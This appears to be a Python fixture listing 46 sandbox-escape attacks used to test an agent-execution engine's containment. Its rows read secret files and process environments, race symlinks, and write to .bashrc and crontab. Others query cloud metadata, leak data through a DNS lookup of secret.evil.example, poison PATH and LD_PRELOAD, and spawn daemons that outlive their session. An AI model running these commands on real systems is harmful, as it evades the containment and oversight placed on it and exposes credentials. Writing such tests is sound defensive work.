"""The 46 hostile inputs (FACTS.md, 3.4), each as an attack that prints ESCAPED, or the canary, where it succeeds.

In the texts stand: {outside} a folder beside the workspace with `secret.txt`, {evil} a folder whose name begins like
the workspace's, {home} the person's home, {pid} the process of the engine, {port} a port that it listens on, {socket} a
socket as agents of keys have one, {mark} what tells processes of this attack from all others.
"""

# ruff: noqa: E501 - an attack is one line

from dataclasses import dataclass

SHELL_TO = """python3 - <<'END'
{}
END"""

CONNECT = """
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.settimeout(1.5)
try:
    s.connect(("{host}", {port}))
    print("ESC" + "APED")
except OSError as error:
    print("refused", error)
"""


@dataclass(frozen=True, slots=True)
class Row:
    """One attack, or the reason why there is none here."""

    number: int
    title: str
    shell: str | None = None  #: for native and docker
    python: str | None = None  #: for wasm, which has no shell
    elsewhere: str = ""  #: what shows it instead, or why there is nothing to attack
    host: str = ""  #: what the engine's own side tries then: "read:PATH" or "glob"
    plain: bool = False  #: held without a boundary, too
    over: str | None = None  #: the limit that must have ended it


def _open(path: str) -> str:
    return f"print(open({path!r}).read())"


ROWS: tuple[Row, ...] = (
    Row(1, "../ out of the workspace", "cat ../outside/secret.txt", _open("../outside/secret.txt"), host="read:../outside/secret.txt"),
    Row(2, "an absolute path", "cat {outside}/secret.txt", _open("{outside}/secret.txt"), host="read:{outside}/secret.txt"),
    Row(3, "a sibling whose name begins alike", "cat {evil}/secret.txt", _open("{evil}/secret.txt"), host="read:{evil}/secret.txt"),
    Row(4, "a link that leads out", "ln -s {outside}/secret.txt l; cat l",
        "import os\nos.symlink('{outside}/secret.txt', 'l')\n" + _open("l"), host="read:l"),
    Row(5, "a link that is swapped while it is opened",
        "echo good > good; end=$((SECONDS+2)); while [ $SECONDS -lt $end ]; do ln -sfn good r; ln -sfn {outside}/secret.txt r; done",
        "import os\nos.symlink('{outside}/secret.txt', 'r')", host="race:r"),
    Row(6, "a hard link to a file outside", "ln {outside}/secret.txt h && cat h",
        "import os\nos.link('{outside}/secret.txt', 'h')\n" + _open("h"), host="read:h"),
    Row(7, "/proc of the engine and of the system", "cat /proc/{pid}/environ /proc/{pid}/cwd/../outside/secret.txt /proc/self/root{outside}/secret.txt",
        _open("/proc/{pid}/environ"), host="read:/proc/{pid}/environ"),
    Row(8, "names that break things", "touch -- 'CON' 'a:b' 'dot.' $'new\\nline' $'\\xe2\\x80\\xaegnp.exe' $'\\xff\\xfe' \"$(head -c 255 /dev/zero | tr '\\0' x)\" -- '-rf'",
        "for name in ('CON', 'a:b', 'dot.', 'x' * 200, '-rf'):\n    open(name, 'w').close()", host="glob", plain=True),
    Row(9, "a pipe where a file is read", "mkfifo p", "import os\nos.mkfifo('p')", host="read:p", plain=True),
    Row(10, "a sparse terabyte, many files, deep folders",
        "truncate -s 1T big; mkdir many; (cd many; for i in $(seq 3000); do : > f$i; done); p=.; for i in $(seq 300); do p=$p/d; mkdir $p || break; done",
        "import os\nfor i in range(500):\n    open(f'f{i}', 'w').close()\np = '.'\nfor i in range(100):\n    p += '/d'\n    os.mkdir(p)", host="glob", plain=True),
    Row(11, "archives with members outside",
        SHELL_TO.format("import io, tarfile, zipfile\nz = zipfile.ZipFile('z.zip', 'w'); z.writestr('../evil-zip.txt', 'x'); z.close()\nzipfile.ZipFile('z.zip').extractall('.')\n"
                        "t = tarfile.open('t.tar', 'w'); i = tarfile.TarInfo('../outside/evil-tar.txt'); i.size = 1; t.addfile(i, io.BytesIO(b'x')); t.close()\n"
                        "try:\n    tarfile.open('t.tar').extractall('.')\nexcept Exception as error:\n    print(error)"),
        "import zipfile\nz = zipfile.ZipFile('z.zip', 'w'); z.writestr('../evil-zip.txt', 'x'); z.close()\nzipfile.ZipFile('z.zip').extractall('.')"),
    Row(12, "hooks and settings of git", elsewhere="the workspace is what the work may change; Baara runs nothing that lies in it"),
    Row(13, "start-up files of the person", "for f in .bashrc .profile .npmrc .envrc; do echo evil >> {home}/$f && echo ESC''APED; done; echo x > {home}/.config/evil && echo ESC''APED",
        "open('{home}/.bashrc', 'a').write('evil')\nprint('ESC' + 'APED')"),
    Row(14, "names that differ by case", elsewhere="file systems here tell cases apart"),
    Row(15, "the environment", "env; printenv; cat /proc/self/environ", "import os\nprint(dict(os.environ))", plain=True),
    Row(16, "a search for the canary", "timeout 8 grep -rsh HOSTILE-CANARY {outside} {home} /run /var/tmp /dev/shm 2>/dev/null | head -c 2000",
        "import os\nfor place in ('/', '{outside}', '{home}'):\n    for folder, _, names in os.walk(place):\n        for name in names:\n            try:\n                text = open(os.path.join(folder, name)).read(100000)\n            except (OSError, ValueError):\n                continue\n            if 'HOSTILE' + '-CANARY' in text:\n                print('ESC' + 'APED')"),
    Row(17, "the keyring's bus", '[ -n "$DBUS_SESSION_BUS_ADDRESS" ] && echo ESC""APED; ls /run/user/*/bus 2>/dev/null && echo ESC""APED; true',
        "import os\nprint('ESC' + 'APED' if 'DBUS_SESSION_BUS_ADDRESS' in os.environ else 'none')"),
    Row(18, "sockets of agents that hold keys", SHELL_TO.format("import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect('{socket}'); print('ESC' + 'APED')\nexcept OSError as error:\n    print(error)"),
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('{socket}')\nprint('ESC' + 'APED')"),
    Row(19, "the cloud's metadata", SHELL_TO.format(CONNECT.replace("{host}", "169.254.169.254").replace("{port}", "80")), CONNECT.replace("{host}", "169.254.169.254").replace("{port}", "80")),
    Row(20, "a connection out", SHELL_TO.format(CONNECT.replace("{host}", "127.0.0.1")), CONNECT.replace("{host}", "127.0.0.1")),
    Row(21, "a secret in a looked-up name", "getent hosts secret.evil.example && echo ESC''APED; true", "import socket\nprint(socket.getaddrinfo('secret.evil.example', 80)); print('ESC' + 'APED')"),
    Row(22, "datagrams and raw sockets", SHELL_TO.format("import socket\nfor kind, proto in ((socket.SOCK_DGRAM, 0), (socket.SOCK_RAW, socket.IPPROTO_ICMP)):\n    try:\n        s = socket.socket(socket.AF_INET, kind, proto); s.sendto(b'HOSTILE', ('192.0.2.1', 9)); print('ESC' + 'APED')\n    except OSError as error:\n        print(error)"),
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('192.0.2.1', 9))\nprint('ESC' + 'APED')"),
    Row(23, "hosts written to deceive a list", elsewhere="tests/engine/fetching/test_fetch.py; sandboxes have no list yet"),
    Row(24, "a redirect to this computer", elsewhere="tests/engine/fetching/test_fetch.py"),
    Row(25, "a name that changes between two looks", elsewhere="tests/engine/fetching/test_fetch.py"),
    Row(26, "our own port, and sockets without a file", SHELL_TO.format("import socket\nfor address in (('127.0.0.1', {port}), '\\0baara-{mark}'):\n    s = socket.socket(socket.AF_INET if isinstance(address, tuple) else socket.AF_UNIX); s.settimeout(1.5)\n    try:\n        s.connect(address); print('ESC' + 'APED')\n    except OSError as error:\n        print(error)"),
        CONNECT.replace("{host}", "localhost")),
    Row(27, "more processes than there may be", "for i in $(seq 300); do sleep {mark} & done; wait", "import os\nos.fork()\nprint('ESC' + 'APED')"),
    Row(28, "a daemon that outlives its command", "setsid nohup sleep {mark} >/dev/null 2>&1 & echo begun", "import subprocess\nsubprocess.Popen(['sleep', '{mark}'])\nprint('ESC' + 'APED')", plain=True),
    Row(29, "grandchildren that ignore the wish to end", "(trap '' TERM HUP; (trap '' TERM HUP; sleep {mark}) & ) & echo begun", "import os\nos.fork()\nprint('ESC' + 'APED')", plain=True),
    Row(30, "an end to its parents", "kill -9 $PPID; kill -9 {pid}; kill -STOP {pid}; echo tried", "import os\nos.kill({pid}, 9)\nprint('ESC' + 'APED')"),
    Row(31, "a debugger on the engine", SHELL_TO.format("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nprint('ESC' + 'APED' if libc.ptrace(16, {pid}, 0, 0) == 0 else 'refused')"),
        "import ctypes\nprint('ESC' + 'APED')"),
    Row(32, "work planned for later", "echo '* * * * * touch /tmp/{mark}' | crontab - 2>/dev/null && echo ESC''APED; echo x > /var/spool/cron/evil 2>/dev/null && echo ESC''APED; systemd-run --user true 2>/dev/null && echo ESC''APED; true",
        "open('/var/spool/cron/evil', 'w')\nprint('ESC' + 'APED')"),
    Row(33, "orders to the terminal", elsewhere="tests/app/cli/test_output.py: the command line shows no control characters"),
    Row(34, "64 GB of memory", SHELL_TO.format("try:\n    x = bytearray(64 << 30); print('ESC' + 'APED')\nexcept MemoryError:\n    print('no memory')"), "x = bytearray(3 << 30)\nprint('ESC' + 'APED')", plain=True),
    Row(35, "a full disk", "head -c 20M /dev/zero > a; head -c 20M /dev/zero > b; head -c 20M /dev/zero > c; head -c 20M /dev/zero > d; sleep 4 && echo ESC''APED",
        "for name in 'abcd':\n    with open(name, 'wb') as f:\n        f.write(bytes(20 << 20))\nimport time\ntime.sleep(6)\nprint('ESC' + 'APED')", plain=True),
    Row(36, "an endless output, in one line, of any bytes", "head -c 200M /dev/urandom | tr -d '\\n'", "for i in range(2000):\n    print('x' * 10000, end='')", plain=True),
    Row(37, "a processor for ever", "while :; do :; done", "while True:\n    pass", plain=True),
    Row(38, "all descriptors", SHELL_TO.format("held = []\ntry:\n    for i in range(5000):\n        held.append(open('/dev/null'))\n    print('ESC' + 'APED')\nexcept OSError as error:\n    print(error)"),
        "held = []\nfor i in range(5000):\n    held.append(open('x', 'w'))\nprint('ESC' + 'APED')", plain=True),
    Row(39, "all inodes", elsewhere="the size of a workspace is held, the number of its files is not"),
    Row(40, "more rights", "sudo -n id 2>/dev/null && echo ESC''APED; unshare -Ur true 2>/dev/null && echo ESC''APED; mount -t tmpfs x /mnt 2>/dev/null && echo ESC''APED; true",
        "import os\nos.setuid(0)\nprint('ESC' + 'APED')"),
    Row(41, "the socket of a container engine", "for s in /var/run/docker.sock /run/docker.sock /run/podman/podman.sock /var/tmp/baara-engine/docker.sock; do [ -S $s ] && echo ESC''APED; done; true",
        "import os\nprint('ESC' + 'APED' if os.path.exists('/var/run/docker.sock') else 'none')"),
    Row(42, "a poisoned environment for the next command", "mkdir -p bin; printf '#!/bin/sh\\necho ESC''APED\\n' > ls; chmod +x ls; export PATH=.:$PATH PYTHONSTARTUP=x.py LD_PRELOAD=./evil.so; alias ls=./ls; echo set",
        "import os\nos.environ['PATH'] = '.'\nprint('set')", host="next", plain=True),
    Row(43, "approve one thing, run another", elsewhere="tests/engine/permission: an approval holds for exactly its arguments"),
    Row(44, "output that speaks with the system's voice", elsewhere="outputs are blocks of a tool result, never text of a prompt"),
    Row(45, "endless and exploding guests", elsewhere="tests/engine/sandboxes/wasm"),
    Row(46, "an answer that makes the pages load something", elsewhere="tests/ui/test_payloads.py"),
)  # fmt: skip
